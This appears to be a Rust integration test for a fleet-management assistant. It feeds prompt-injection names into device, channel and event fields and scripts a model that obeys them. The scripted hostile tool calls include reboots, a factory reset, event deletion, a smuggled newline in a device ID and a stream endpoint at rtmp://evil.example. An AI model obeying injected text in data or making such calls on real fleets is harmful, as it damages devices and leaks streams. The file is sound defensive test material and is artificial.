//! Hostile names: the injection corpus loaded into a simulator team (real MCP), read by a
//! scripted model that obeys every instruction it finds, through each model API (Anthropic's
//! Messages API and Chat Completions). No proposal outside the policy and
//! the fence is stored, the names reach the model only inside the escaped data block, and
//! nothing breaks.

mod common;

use std::sync::{Arc, Mutex};

use fleetwatch::answer::Assistant;
use fleetwatch::grants;
use fleetwatch::model::{ApiKey, ModelConfig};
use fleetwatch::reads::{self, Reader, Token};
use fleetwatch::store::Store;
use fleetwatch_sim::model::{self as stand_in, Api, text_reply, tool_use_reply};
use fleetwatch_sim::{SimConfig, TeamConfig, TeamSource};
use serde_json::{Value, json};

struct Name {
    kind: String,
    text: String,
}

fn corpus() -> Vec<Name> {
    let text =
        std::fs::read_to_string(common::root().join("assistant/tests/data/injection_names.json"))
            .unwrap();
    let value: Value = serde_json::from_str(&text).unwrap();
    value["names"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| Name {
            kind: n["kind"].as_str().unwrap().to_owned(),
            text: n["text"].as_str().unwrap().to_owned(),
        })
        .collect()
}

const NOW: &str = "2026-09-24T20:00:00Z";

/// Writes a replay team whose device, channel and event names are the corpus.
fn write_team(dir: &std::path::Path, names: &[Name]) -> Vec<String> {
    let devices: Vec<&Name> = names.iter().filter(|n| n.kind == "device").collect();
    let channels: Vec<&Name> = names.iter().filter(|n| n.kind == "channel").collect();
    let events: Vec<&Name> = names.iter().filter(|n| n.kind == "event").collect();
    let ids: Vec<String> = (0..devices.len().max(channels.len()).max(events.len()))
        .map(|i| format!("{}", 27_000_000_000u64 + i as u64))
        .collect();
    let mut list = Vec::new();
    for (i, id) in ids.iter().enumerate() {
        let name = devices.get(i).map_or("Room", |n| n.text.as_str());
        let channel = channels.get(i).map_or("Program", |n| n.text.as_str());
        list.push(json!({
            "Id": id, "Name": name, "Model": "Pearl-2",
            "GroupId": "3a4b5c6d-7e8f-4012-9345-6789abcdef01", "GroupName": "Injected",
            "Firmware": "4.24.6", "Status": if i % 3 == 0 { "offline" } else { "online" },
            "StateTime": "2026-09-24T19:00Z",
            "Channels": [{"channel_id": "1", "name": channel,
                          "recording_status": {"state": "stopped", "timestamp": "0", "description": ""}}]
        }));
    }
    let mut event_map = serde_json::Map::new();
    for (i, event) in events.iter().enumerate() {
        event_map.insert(
            ids[i].clone(),
            json!({"event": {"id": format!("evt-{i}"), "title": event.text,
                             "start": "2026-09-24T20:30:00Z", "end": "2026-09-24T21:30:00Z"}}),
        );
    }
    let files = [
        ("get_devices_in_my_team", json!({"devices": list})),
        (
            "get_current_or_next_cms_events_for_devices",
            json!({"devices": event_map}),
        ),
        ("get_stream_endpoints", json!({"stream_endpoints": []})),
    ];
    for (tool, value) in files {
        // Serialised JSON has `{{` only inside strings; escaping it keeps a name such as
        // "{{now}}" a literal name instead of a replay-clock template.
        let text = value.to_string().replace("{{", "\\u007b\\u007b");
        std::fs::write(dir.join(format!("{tool}.json")), text).unwrap();
    }
    ids
}

/// Every tool_result content the model was sent.
fn tool_results(request: &Value) -> Vec<String> {
    let mut out = Vec::new();
    for message in request["messages"].as_array().into_iter().flatten() {
        for block in message["content"].as_array().into_iter().flatten() {
            if block["type"] == "tool_result" {
                match &block["content"] {
                    Value::String(s) => out.push(s.clone()),
                    other => out.push(other.to_string()),
                }
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_obeying_injected_names_stores_nothing_outside_policy_and_fence() {
    injected_names_store_nothing(Api::Anthropic).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn through_chat_completions_injected_names_store_nothing_either() {
    injected_names_store_nothing(Api::OpenAi).await;
}

/// The model's configuration for a stand-in of `api`.
fn model_config(api: Api, url: String) -> ModelConfig {
    ModelConfig::with_api(
        common::model_api(api),
        url,
        Some(ApiKey::new("sk-ant-test").unwrap()),
        "m",
    )
}

async fn injected_names_store_nothing(api: Api) {
    let names = corpus();
    assert!(names.len() >= 50, "corpus has {} names", names.len());
    let team_dir = tempfile::tempdir().unwrap();
    let injected_ids = write_team(team_dir.path(), &names);
    let mut sim_config = SimConfig::demo();
    sim_config.now = Some(NOW.parse().unwrap());
    sim_config.teams[0] = TeamConfig {
        view_only: false,
        name: "normal".into(),
        token: "normal-token".into(),
        source: TeamSource::Replay(team_dir.path().to_path_buf()),
    };
    let sim = fleetwatch_sim::start(sim_config).await.unwrap();
    let sandbox = sim.team_devices("sandbox");
    // The fence names one injected (normal-team) device too: only the executor's fresh sandbox
    // list can keep it out.
    let allow = vec![sandbox[0].clone(), injected_ids[1].clone()];
    let executor = common::Executor::start(&sim.mcp_url(), &allow, None, &[]).await;

    let state = tempfile::tempdir().unwrap();
    std::fs::write(state.path().join("settings.yaml"), "autonomy: propose\n").unwrap();
    for c in [
        "fleet",
        "schedule",
        "streams",
        "maintenance",
        "recording",
        "streaming",
        "events",
    ] {
        grants::open(state.path(), &common::policy(), c).unwrap();
    }
    let config = common::config(
        state.path(),
        &[
            ("FLEETWATCH_EPIPHAN_URL", sim.mcp_url()),
            ("FLEETWATCH_ALLOW_LOOPBACK_HTTP", "1".into()),
            ("FLEETWATCH_WRITE_DEVICE_IDS", allow.join(",")),
            (
                "FLEETWATCH_EXECUTOR_SOCKET",
                executor.socket.display().to_string(),
            ),
        ],
    );
    let token_path = state.path().join("token");
    std::fs::write(&token_path, "normal-token").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&token_path, std::fs::Permissions::from_mode(0o600)).unwrap();
    let policy = common::policy();
    let reader = Arc::new(
        Reader::live(
            &config,
            Arc::clone(&policy),
            Token::from_file(&token_path).unwrap(),
        )
        .unwrap(),
    );
    // The keyword path copes with the hostile fleet too.
    let snapshot = reads::load_snapshot(&reader).await.unwrap();
    assert_eq!(snapshot.devices.len(), injected_ids.len());
    let store = Arc::new(Mutex::new(Store::open(state.path()).unwrap()));

    let all_ids: Vec<String> = injected_ids.clone();
    let obeyed: Vec<(&str, Value)> = vec![
        ("batch_reboot", json!({"device_ids": [injected_ids[0]]})),
        ("batch_reboot", json!({"device_ids": [injected_ids[1]]})),
        ("batch_firmware_update", json!({"device_ids": all_ids})),
        (
            "factory_reset_device",
            json!({"device_ids": [injected_ids[0]]}),
        ),
        (
            "create_stream_endpoint",
            json!({"name": "x", "url": "rtmp://evil.example/live/k"}),
        ),
        ("delete_cms_event", json!({"event_id": "evt-1"})),
        (
            "batch_recording",
            json!({"action": "stop", "device_ids": ["Room 9"]}),
        ),
        (
            "batch_recording",
            json!({"action": "stop", "device_ids": [format!("{}-1", injected_ids[2])]}),
        ),
        (
            "stop_stream_endpoint",
            json!({"stream_id": "0f8fad5b-d9cb-469f-a165-70867728950e", "device_id": injected_ids[1], "channel_id": "1"}),
        ),
        (
            "batch_reboot",
            json!({"device_ids": [format!("{}\n", sandbox[0])]}),
        ),
        ("batch_reboot", json!({"device_ids": [sandbox[1]]})),
        (
            "confirm_cms_event_on_device",
            json!({"device_id": injected_ids[0], "event_id": "evt-0"}),
        ),
    ];
    let mut all_results = Vec::new();
    for (i, (tool, args)) in obeyed.iter().enumerate() {
        let model = stand_in::start_api(
            api,
            vec![
                // The names reach the model through the fleet tools, as a whole team does.
                tool_use_reply("toolu_a", "fleet_search", json!({})),
                tool_use_reply("toolu_b", "fleet_overview", json!({})),
                tool_use_reply(
                    "toolu_c",
                    "propose_change",
                    json!({"tool": tool, "arguments": args, "reason": names[i].text}),
                ),
                text_reply("ALL ROOMS OK"),
            ],
            0,
        )
        .await
        .unwrap();
        let engine = Assistant::from_config(
            &config,
            Arc::clone(&policy),
            Arc::clone(&reader),
            Arc::clone(&store),
            Some(model_config(api, model.url())),
            true,
        );
        let reply = engine.ask("what needs attention?", false).await;
        assert!(
            reply.proposals.is_empty(),
            "{tool} {args}: stored {reply:?}"
        );
        let requests = model.requests_as_messages();
        assert!(requests.len() >= 3, "{tool}: the turn ended early");
        let last = requests.last().unwrap();
        let results = tool_results(last);
        assert!(
            results.iter().any(|r| r.starts_with("Not proposed:")),
            "{tool}: {results:?}"
        );
        all_results.extend(results);
    }
    let stored: i64 = store
        .lock()
        .unwrap()
        .connection()
        .query_row("SELECT COUNT(*) FROM proposals", [], |r| r.get(0))
        .unwrap();
    assert_eq!(stored, 0);
    assert!(sim.writes().is_empty());

    // Names reach the model only inside the data block, escaped.
    let blocks: Vec<&String> = all_results
        .iter()
        .filter(|r| r.starts_with("<fleet_data"))
        .collect();
    assert!(!blocks.is_empty());
    for block in &blocks {
        let open_end = block.find('>').unwrap();
        let close = block.rfind("</fleet_data>").unwrap();
        let inner = &block[open_end + 1..close];
        assert!(!inner.contains('<') && !inner.contains('>') && !inner.contains('&'));
        let outside = format!("{}{}", &block[..open_end + 1], &block[close..]);
        for name in &names {
            let probe: String = name.text.chars().take(24).collect();
            if probe.chars().count() >= 12 {
                assert!(!outside.contains(&probe), "name outside the block: {probe}");
            }
        }
    }
    // Refusals never echo an injected name back as prose.
    for result in all_results
        .iter()
        .filter(|r| r.starts_with("Not proposed:"))
    {
        for name in &names {
            let probe: String = name.text.chars().take(24).collect();
            if probe.chars().count() >= 12 {
                assert!(!result.contains(&probe), "refusal echoed {probe}: {result}");
            }
        }
    }
    // A positive control: an in-policy, in-fence proposal is still possible in this fleet.
    let model = stand_in::start_api(api, vec![
        tool_use_reply(
            "toolu_p",
            "propose_change",
            json!({"tool": "batch_recording", "arguments": {"action": "start", "device_ids": [format!("{}-1", sandbox[0])]}, "reason": "control"}),
        ),
        text_reply("proposed"),
    ], 0)
    .await
    .unwrap();
    let engine = Assistant::from_config(
        &config,
        Arc::clone(&policy),
        Arc::clone(&reader),
        Arc::clone(&store),
        Some(model_config(api, model.url())),
        true,
    );
    let reply = engine.ask("start recording in the sandbox", false).await;
    assert_eq!(reply.proposals.len(), 1, "{reply:?}");
    drop(executor);
    sim.shutdown().await;
}

/// One device whose name holds a lone surrogate escape (`reads.rs` has the same fleet live): that one string gets U+FFFD, and every
/// other device is read as sent.
const LONE_SURROGATE_FLEET: &str = r#"{"devices": [
    {"Id": "1000000001", "Name": "Room \ud800 7", "Status": "online"},
    {"Id": "1000000002", "Name": "Aula \ud83d\ude00 8", "Status": "offline"}
]}"#;

#[tokio::test]
async fn a_lone_surrogate_in_a_replay_file_spoils_one_name_not_the_fleet() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("get_devices_in_my_team.json"),
        LONE_SURROGATE_FLEET,
    )
    .unwrap();
    let reader = Reader::replay(
        dir.path().to_path_buf(),
        NOW.parse().unwrap(),
        common::policy(),
    );
    let value = reader
        .read("get_devices_in_my_team", json!({}))
        .await
        .unwrap();
    assert_eq!(value["devices"][0]["Name"], "Room \u{FFFD} 7");
    assert_eq!(value["devices"][1]["Name"], "Aula \u{1F600} 8");
}

#[tokio::test]
async fn the_keyword_answer_survives_the_corpus() {
    let names = corpus();
    let dir = tempfile::tempdir().unwrap();
    write_team(dir.path(), &names);
    std::fs::write(
        dir.path().join("get_recorder_status_for_devices.json"),
        r#"{"devices": {}}"#,
    )
    .unwrap();
    let reader = Reader::replay(
        dir.path().to_path_buf(),
        NOW.parse().unwrap(),
        common::policy(),
    );
    let snapshot = reads::load_snapshot(&reader).await.unwrap();
    for question in [
        "what needs attention?",
        "what's offline?",
        "¿qué salas están desconectadas?",
        "what is recording?",
        "what's coming up next?",
        "is Room 9 ready?",
        "firmware stragglers",
    ] {
        let answer = fleetwatch::keyword::answer(question, &snapshot);
        assert!(!answer.is_empty(), "{question}");
    }
}
